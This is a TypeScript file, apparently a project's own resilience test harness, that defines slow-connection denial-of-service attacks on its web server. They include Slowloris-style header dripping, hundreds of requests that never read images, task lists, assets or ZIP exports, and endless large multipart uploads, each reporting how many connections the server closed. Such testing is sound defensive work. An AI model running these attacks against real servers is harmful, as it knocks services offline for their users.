import { readdirSync, statSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { builtFrontend } from '../../../src/server/http/staticFiles.ts';
import {
  Answers,
  ATTACKER_ADDRESS,
  type Attack,
  callAsStranger,
  callAsUser,
  type Target,
  uploadSmallFlyers,
} from './target.ts';

function openConnection({ baseUrl }: Target): Socket {
  const { hostname, port } = new URL(baseUrl);
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
  return socket.on('error', () => undefined);
}

const headOf = ({ baseUrl, headers }: Target, method: string, path: string, more: Record<string, string> = {}) => {
  const all = { Host: new URL(baseUrl).host, ...headers, ...more };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
};

/**
 * Opens connections that send `text` and never read. Returns how many the server closed. A connection that does not read
 * notices that only when it writes, so `drip` is sent every second.
 */
async function holdConnections(target: Target, count: number, text: string, drip = ''): Promise<number> {
  const sockets = Array.from({ length: count }, () => openConnection(target).pause());
  for (const socket of sockets) socket.write(text);
  for (let second = 0; second < target.seconds; second++) {
    await sleep(1_000);
    if (drip) for (const socket of sockets) if (!socket.destroyed) socket.write(drip);
  }
  const closed = sockets.filter(({ destroyed }) => destroyed).length;
  for (const socket of sockets) socket.destroy();
  return closed;
}

const holdRequests = (target: Target, count: number, path: string) =>
  holdConnections(target, count, headOf(target, 'GET', path));

const unreadImages: Attack = async (target) => {
  const closed = await holdRequests(target, 150, `/api/get_image/${target.fileId}`);
  return `150 connections that ask for an image and do not read: ${closed} closed`;
};

const unreadLists: Attack = async (target) => {
  const uploads = await uploadSmallFlyers(target);
  const closed = await holdRequests(target, 45, '/api/tasks');
  return `6 uploads of 20 flyers: ${uploads}; 45 connections that ask for all tasks and do not read: ${closed} closed`;
};

const unreadFileThroughProxy: Attack = async (target) => {
  const folder = join(builtFrontend(), 'assets');
  const sizeOf = (file: string) => statSync(join(folder, file)).size;
  const [largest] = readdirSync(folder).sort((a, b) => sizeOf(b) - sizeOf(a));
  const closed = await holdRequests(target, 150, `/assets/${largest}`);
  return `150 connections through nginx that ask for /assets/${largest} and do not read: ${closed} closed`;
};

const slowZips: Attack = async (target) => {
  const tickets = new Answers();
  const newTicket = async () => {
    const { text } = await tickets.add(callAsUser(target, 'POST', '/account/export/ticket'));
    return (JSON.parse(text) as { download_url?: string }).download_url ?? '/';
  };
  const held: Promise<number>[] = [];
  for (let n = 0; n < 12; n++) held.push(holdRequests(target, 1, await newTicket()));
  const closed = (await Promise.all(held)).reduce((sum, count) => sum + count, 0);
  const { status } = await callAsStranger(target, await newTicket(), { method: 'GET' });
  return `12 ZIPs that are not read: tickets ${tickets}; ${closed} closed, the next one ${status}`;
};

const slowHeaders: Attack = async (target) => {
  const start = `POST /api/auth/telegram HTTP/1.1\r\nHost: ${new URL(target.baseUrl).host}\r\n`;
  const closed = await holdConnections(target, 300, start, 'X-A: b\r\n');
  return `300 connections that send a header a second: ${closed} closed`;
};

const FORMS = 6;
const IMAGES = 20;
const IMAGE_MB = 9;
const MEGABYTE = Buffer.alloc(1024 * 1024, 'x');
const PART =
  '--x\r\nContent-Disposition: form-data; name="images"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n';

const openForms: Attack = async (target) => {
  const head = headOf(target, 'POST', `/api/assistants/${target.assistantId}/tasks`, {
    'Content-Type': 'multipart/form-data; boundary=x',
    'Content-Length': '209000000',
  });
  const image = [Buffer.from(PART), ...Array<Buffer>(IMAGE_MB).fill(MEGABYTE), Buffer.from('\r\n')];
  const bytes = [Buffer.from(head), ...Array<Buffer[]>(IMAGES).fill(image).flat()];
  const until = performance.now() + target.seconds * 1_000;
  let accepted = 0;
  const form = async () => {
    const socket = openConnection(target).resume();
    for (const each of bytes) {
      if (performance.now() >= until || socket.destroyed) break;
      await new Promise<void>((resolve) => {
        socket.once('close', resolve);
        socket.write(each, () => resolve(void socket.off('close', resolve)));
      });
      if (each === MEGABYTE && !socket.destroyed) accepted += 1;
    }
    while (performance.now() < until && !socket.destroyed) await sleep(100);
    const isClosed = socket.destroyed;
    socket.destroy();
    return isClosed;
  };
  const closed = (await Promise.all(Array.from({ length: FORMS }, form))).filter(Boolean).length;
  return `${FORMS} forms of ${IMAGES} images that never end: ${accepted} MB taken, ${closed} closed by the server`;
};

export const CONNECTIONS = { slowHeaders, unreadImages, openForms, unreadLists, slowZips, unreadFileThroughProxy };
